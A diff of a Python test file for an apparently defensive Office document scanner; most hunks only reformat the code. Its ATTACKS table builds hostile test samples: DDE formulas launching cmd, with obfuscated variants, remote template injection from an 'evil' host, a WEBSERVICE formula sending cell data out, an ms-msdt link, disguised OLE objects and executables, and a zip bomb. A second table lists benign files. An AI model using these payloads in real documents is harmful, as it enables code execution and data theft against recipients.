@@ -100,7 +100,10 @@ ATTACKS = {
         ),
         "外部模板",
     ),
-    "template of the strict kind": (lambda: with_relation("attachedTemplate", "http://evil/x.dotm", base=STRICT), "外部"),
+    "template of the strict kind": (
+        lambda: with_relation("attachedTemplate", "http://evil/x.dotm", base=STRICT),
+        "外部",
+    ),
     "template on a share": (lambda: with_relation("attachedTemplate", r"\\evil\share\x.dotm"), "外部"),
     "template through a file address": (lambda: with_relation("attachedTemplate", "file://evil/x.dotm"), "外部"),
     "linked picture": (lambda: with_relation("image", "http://evil/pixel.png"), "图片"),
@@ -117,18 +120,22 @@ ATTACKS = {
     "dde as a simple field": (lambda: in_document(document('<w:fldSimple w:instr="dde cmd"/>')), "DDE"),
     "dde in UTF-16": (lambda: in_document(document(field("DDE x")).encode("utf-16")), "DDE"),
     "field put together from fields": (lambda: in_document(document(field(f"{field('QUOTE 68 68 69')}x"))), "域代码"),
-    "fetched picture": (lambda: in_document(document(field('INCLUDEPICTURE "http://evil/a.png" \\d'))), "INCLUDEPICTURE"),
+    "fetched picture": (
+        lambda: in_document(document(field('INCLUDEPICTURE "http://evil/a.png" \\d'))),
+        "INCLUDEPICTURE",
+    ),
     "fetched text": (lambda: in_document(document(field("INCLUDETEXT //evil/a"))), "INCLUDETEXT"),
-    "drawing with an address": (lambda: in_document(document('<v:imagedata xmlns:v="v" src="http://evil/a"/>')), "外部"),
+    "drawing with an address": (
+        lambda: in_document(document('<v:imagedata xmlns:v="v" src="http://evil/a"/>')),
+        "外部",
+    ),
     "mail merge": (lambda: in_document(f"<w:settings {W}><w:mailMerge/></w:settings>", "word/settings.xml"), "外部"),
     "ole under another name": (lambda: in_document(OLE, "word/media/image1.png"), "嵌入"),
     "ole as printer settings": (lambda: in_document(OLE, "xl/printerSettings/printerSettings1.bin"), "嵌入"),
     "program under another name": (lambda: in_document(b"MZ" + b"\0" * 100, "word/media/image1.emf"), "嵌入"),
     "package under another name": (lambda: in_document(book(), "word/media/image1.jpeg"), "嵌入"),
     "macros under another name": (
-        lambda: corpus.office(
-            members={"word/data.bin": b"x"}, types=types(bin="application/vnd.ms-office.vbaProject")
-        ),
+        lambda: corpus.office(members={"word/data.bin": b"x"}, types=types(bin="application/vnd.ms-office.vbaProject")),
         "宏",
     ),
     "macros by relation": (lambda: with_relation("vbaProject", "data.bin", outside=False), "宏"),
@@ -139,7 +146,8 @@ ATTACKS = {
         "宏",
     ),
     "unknown content": (
-        lambda: corpus.office(members={"word/a.html": "<a/>"}, types=types(html="text/html")), "不认识"
+        lambda: corpus.office(members={"word/a.html": "<a/>"}, types=types(html="text/html")),
+        "不认识",
     ),
     "external workbook": (lambda: with_relation("externalLink", "externalLinks/1.xml", outside=False), "外部"),
     "data connections": (lambda: with_relation("connections", "connections.xml", outside=False), "外部"),
@@ -148,42 +156,59 @@ ATTACKS = {
     "dde formula": (lambda: sheet("cmd|'/c calc'!A1"), "外部"),
     "dde formula behind references": (lambda: sheet("cmd&#x7C;'/c calc'!A1"), "外部"),
     "formula that fetches": (lambda: sheet('WEBSERVICE("http://evil/?"&amp;A1)'), "外部"),
-    "dde in a name": (lambda: workbook("<definedNames><definedName name='a'>cmd|'/c calc'!A1</definedName></definedNames>"), "外部"),
+    "dde in a name": (
+        lambda: workbook("<definedNames><definedName name='a'>cmd|'/c calc'!A1</definedName></definedNames>"),
+        "外部",
+    ),
     "dde formula in pieces": (lambda: sheet("cmd<!-- -->|'/c calc'!A1"), "外部"),
     "dde formula as raw text": (lambda: sheet("<![CDATA[cmd|'/c calc'!A1]]>"), "外部"),
-    "dde formula after a long blank": (lambda: sheet("cmd" + " " * 8_000 + "|'/c calc'!A1", before=" " * 254_100), "外部"),
+    "dde formula after a long blank": (
+        lambda: sheet("cmd" + " " * 8_000 + "|'/c calc'!A1", before=" " * 254_100),
+        "外部",
+    ),
     "dde formula behind a prefix": (lambda: sheet("cmd|'/c calc'!A1", prefix="a-b:"), "外部"),
     "dde formula in a sheet of another type": (lambda: sheet("cmd|'/c calc'!A1", kind="application/xml"), "外部"),
     "formula that fetches, behind references": (lambda: sheet("WEBSER&#86;ICE(A1)"), "外部"),
     "formula that fetches, in a rule": (
-        lambda: corpus.office(corpus.XLSX, {"xl/tables/a.xml": "<t><formula1>WEBSERVICE(A1)</formula1></t>"}), "外部"
+        lambda: corpus.office(corpus.XLSX, {"xl/tables/a.xml": "<t><formula1>WEBSERVICE(A1)</formula1></t>"}),
+        "外部",
     ),
     "macro of another workbook": (
-        lambda: in_document(r"<x:sp xmlns:x='x' macro='\\evil\a.xls!m'/>", "xl/drawings/drawing1.xml"), "宏"
+        lambda: in_document(r"<x:sp xmlns:x='x' macro='\\evil\a.xls!m'/>", "xl/drawings/drawing1.xml"),
+        "宏",
     ),
-    "field with a link that starts a program": (lambda: in_document(document(field(' HYPERLINK "ms-msdt:/id" '))), "链接"),
+    "field with a link that starts a program": (
+        lambda: in_document(document(field(' HYPERLINK "ms-msdt:/id" '))),
+        "链接",
+    ),
     "field with a link to a share": (
-        lambda: in_document(document(field(r' HYPERLINK \h "\\\\evil\\a.docx" \o "x"'))), "链接"
+        lambda: in_document(document(field(r' HYPERLINK \h "\\\\evil\\a.docx" \o "x"'))),
+        "链接",
     ),
-    "address of another computer without saying so": (lambda: with_relation("image", "http://evil/a.png", False), "外部"),
+    "address of another computer without saying so": (
+        lambda: with_relation("image", "http://evil/a.png", False),
+        "外部",
+    ),
     "picture that is a text with fields": (
-        lambda: in_document(document(field("DDE x")), "word/media/image1.png"), "DDE"
+        lambda: in_document(document(field("DDE x")), "word/media/image1.png"),
+        "DDE",
     ),
     "drawing with an address behind references": (
-        lambda: in_document("<v:imagedata src='&#104;ttp://evil/a'/>", "word/drawings/vmlDrawing1.vml"), "外部"
+        lambda: in_document("<v:imagedata src='&#104;ttp://evil/a'/>", "word/drawings/vmlDrawing1.vml"),
+        "外部",
     ),
     "ole as a drawing": (lambda: in_document(OLE, "word/drawings/vmlDrawing1.vml"), "嵌入"),
     "program beside the text": (lambda: in_document("WScript.Echo 1", "word/media/a.vbs"), "嵌入"),
     "two parts of one name": (lambda: corpus.office(members={"word/a.xml": "<a/>", "word/A.xml": "<a/>"}), "不规范"),
     "macros in the workbook of a chart": (
-        lambda: with_chart(corpus.office(corpus.XLSX, {"xl/vbaProject.bin": b"x"})), "宏"
+        lambda: with_chart(corpus.office(corpus.XLSX, {"xl/vbaProject.bin": b"x"})),
+        "宏",
     ),
     "no workbook behind a chart": (lambda: with_chart(OLE), "嵌入"),
-    "workbook embedded without a chart": (
-        lambda: with_chart(book(), "word/notes.xml", "application/xml"), "嵌入"
-    ),
+    "workbook embedded without a chart": (lambda: with_chart(book(), "word/notes.xml", "application/xml"), "嵌入"),
     "bomb behind a chart": (
-        lambda: with_chart(corpus.office(corpus.XLSX, {"xl/a.xml": b"0" * 30_000_000})), "异常庞大"
+        lambda: with_chart(corpus.office(corpus.XLSX, {"xl/a.xml": b"0" * 30_000_000})),
+        "异常庞大",
     ),
     "script in a drawing": (
         lambda: corpus.office(
@@ -191,7 +216,7 @@ ATTACKS = {
         ),
         "外部",
     ),
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
@@ -237,9 +262,11 @@ def report() -> bytes:
     paragraph = word.add_paragraph()
     for code in (" PAGE ", ' TOC \\o "1-3" \\h ', ' HYPERLINK "https://www.moe.gov.cn" '):
         paragraph._p.append(parse_xml(f"<w:p {nsdecls('w')}>{field(code)}</w:p>"))
-    paragraph._p.append(parse_xml(
-        '<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:r><m:t>x</m:t></m:r></m:oMath>'
-    ))  # fmt: skip
+    paragraph._p.append(
+        parse_xml(
+            '<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:r><m:t>x</m:t></m:r></m:oMath>'
+        )
+    )
     word.part.relate_to("https://www.moe.gov.cn/srcsite/", f"{RELATION}/hyperlink", is_external=True)
     word.part.relate_to("file:///C:\\Users\\王\\附件1.docx", f"{RELATION}/hyperlink", is_external=True)
     out = io.BytesIO()
@@ -272,37 +299,79 @@ ORDINARY = {
     "own template": (
         "报告.docx",
         lambda: in_document(
-            related("attachedTemplate", "file:///C:\\Users\\王\\AppData\\Templates\\Normal.dotm"), "word/_rels/settings.xml.rels"
+            related("attachedTemplate", "file:///C:\\Users\\王\\AppData\\Templates\\Normal.dotm"),
+            "word/_rels/settings.xml.rels",
         ),
     ),
-    "links of a copied web page": ("报告.docx", lambda: corpus.office(members={
-        "word/document.xml": document(field(' HYPERLINK "javascript:void(0)" ') + field(' HYPERLINK \\l "_Toc1" ')),
-        "word/_rels/document.xml.rels": related("hyperlink", "javascript:;"),
-    })),
-    "notes of the editor of Word": ("报告.docx", lambda: corpus.office(
-        members={"word/intelligence2.xml": "<a/>", "word/_rels/document.xml.rels": related(
-            "intelligence", "intelligence2.xml", False, "http://schemas.microsoft.com/office/2020/10/relationships")},
-    )),
-    "handwriting": ("报告.docx", lambda: corpus.office(
-        members={"word/ink/ink1.iso": "<ink/>"}, types=types(iso="application/inkml+xml"),
-    )),
-    "workbook written by a web page": ("表.xlsx", lambda: corpus.office(
-        corpus.XLSX, {"xl/worksheets/sheet1.xml": "<worksheet/>"},
-        types=types(bin="application/vnd.ms-excel.sheet.binary.macroEnabled.main", pdf="application/pdf"),
-    )),
-    "workbook of a web office": ("表.xlsx", lambda: corpus.office(corpus.XLSX, {
-        "xl/metadata": b"x", "xl/_rels/workbook.xml.rels": related(
-            "workbookmetadata", "metadata", False, "http://customschemas.google.com/relationships"),
-    }, types=corpus.CONTENT_TYPES.replace(
-        "</Types>", '<Override PartName="/xl/metadata" ContentType="application/binary"/></Types>'))),
+    "links of a copied web page": (
+        "报告.docx",
+        lambda: corpus.office(
+            members={
+                "word/document.xml": document(
+                    field(' HYPERLINK "javascript:void(0)" ') + field(' HYPERLINK \\l "_Toc1" ')
+                ),
+                "word/_rels/document.xml.rels": related("hyperlink", "javascript:;"),
+            }
+        ),
+    ),
+    "notes of the editor of Word": (
+        "报告.docx",
+        lambda: corpus.office(
+            members={
+                "word/intelligence2.xml": "<a/>",
+                "word/_rels/document.xml.rels": related(
+                    "intelligence",
+                    "intelligence2.xml",
+                    False,
+                    "http://schemas.microsoft.com/office/2020/10/relationships",
+                ),
+            },
+        ),
+    ),
+    "handwriting": (
+        "报告.docx",
+        lambda: corpus.office(
+            members={"word/ink/ink1.iso": "<ink/>"},
+            types=types(iso="application/inkml+xml"),
+        ),
+    ),
+    "workbook written by a web page": (
+        "表.xlsx",
+        lambda: corpus.office(
+            corpus.XLSX,
+            {"xl/worksheets/sheet1.xml": "<worksheet/>"},
+            types=types(bin="application/vnd.ms-excel.sheet.binary.macroEnabled.main", pdf="application/pdf"),
+        ),
+    ),
+    "workbook of a web office": (
+        "表.xlsx",
+        lambda: corpus.office(
+            corpus.XLSX,
+            {
+                "xl/metadata": b"x",
+                "xl/_rels/workbook.xml.rels": related(
+                    "workbookmetadata", "metadata", False, "http://customschemas.google.com/relationships"
+                ),
+            },
+            types=corpus.CONTENT_TYPES.replace(
+                "</Types>", '<Override PartName="/xl/metadata" ContentType="application/binary"/></Types>'
+            ),
+        ),
+    ),
     "bar in the name of a sheet": ("表.xlsx", lambda: sheet("SUM('上|下'!A1,\"a|b\")")),
-    "button without its macro": ("表.xlsx", lambda: corpus.office(
-        corpus.XLSX, {"xl/drawings/drawing1.xml": "<x:sp xmlns:x='x' macro='[0]!按钮1_Click'/>"})),
+    "button without its macro": (
+        "表.xlsx",
+        lambda: corpus.office(corpus.XLSX, {"xl/drawings/drawing1.xml": "<x:sp xmlns:x='x' macro='[0]!按钮1_Click'/>"}),
+    ),
     "picture lost by WPS": ("报告.docx", lambda: with_relation("image", "NULL")),
-    "pictures in cells of WPS": ("表.xlsx", lambda: corpus.office(
-        corpus.XLSX, {"xl/_rels/workbook.xml.rels": related("cellImage", "cellimages.xml", False, "http://www.wps.cn/2020")}
-    )),
-}  # fmt: skip
+    "pictures in cells of WPS": (
+        "表.xlsx",
+        lambda: corpus.office(
+            corpus.XLSX,
+            {"xl/_rels/workbook.xml.rels": related("cellImage", "cellimages.xml", False, "http://www.wps.cn/2020")},
+        ),
+    ),
+}
 
 
 @pytest.mark.parametrize("kind", ORDINARY)
